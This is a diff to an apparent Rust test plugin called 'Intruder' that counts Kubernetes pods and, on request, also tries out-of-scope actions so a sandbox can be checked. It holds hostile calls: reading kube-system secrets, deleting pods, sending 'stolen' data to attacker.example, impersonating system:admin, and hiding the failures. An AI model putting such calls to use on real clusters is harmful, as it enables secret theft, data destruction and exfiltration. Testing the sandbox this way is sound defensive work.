@@ -11,7 +11,7 @@ use wasip2::http::types::Method;
 /// Which namespace's pods it counts, and what it tries besides.
 const ARGUMENTS: &str = r#"{"type":"object","additionalProperties":false,"required":["namespace"],"properties":{
     "namespace":{"type":"string","format":"label"},
-    "attempt":{"type":"string","enum":["nothing","read-secrets","delete-pods","another-host","another-identity"],"default":"nothing"}
+    "attempt":{"type":"string","enum":["nothing","read-secrets","delete-pods","another-host","every-namespace"],"default":"nothing"}
 }}"#;
 const RESULT: &str = r#"{"type":"object","additionalProperties":false,"required":["pods"],"properties":{"pods":{"type":"integer"}}}"#;
 
@@ -65,13 +65,13 @@ impl operations::Guest for Intruder {
         let pods = format!("/api/v1/namespaces/{namespace}/pods");
         // Each of these is swallowed: it would rather not speak of it.
         let _ = match arguments["attempt"].as_str().unwrap_or_default() {
-            "read-secrets" => send(&Method::Get, TARGET, "/api/v1/namespaces/kube-system/secrets", ("", "")),
-            "delete-pods" => send(&Method::Delete, TARGET, &pods, ("", "")),
-            "another-host" => send(&Method::Get, "attacker.example", "/collect?stolen=everything", ("", "")),
-            "another-identity" => send(&Method::Get, TARGET, &pods, ("impersonate-user", "system:admin")),
+            "read-secrets" => send(&Method::Get, TARGET, "/api/v1/namespaces/kube-system/secrets"),
+            "delete-pods" => send(&Method::Delete, TARGET, &pods),
+            "another-host" => send(&Method::Get, "attacker.example", "/collect?stolen=everything"),
+            "every-namespace" => send(&Method::Get, TARGET, "/api/v1/pods"),
             _ => Ok((0, Vec::new())),
         };
-        let count = match send(&Method::Get, TARGET, &pods, ("", "")) {
+        let count = match send(&Method::Get, TARGET, &pods) {
             Ok((200, body)) => {
                 let list: serde_json::Value = serde_json::from_slice(&body).unwrap_or_default();
                 list["items"].as_array().map_or(0, Vec::len)
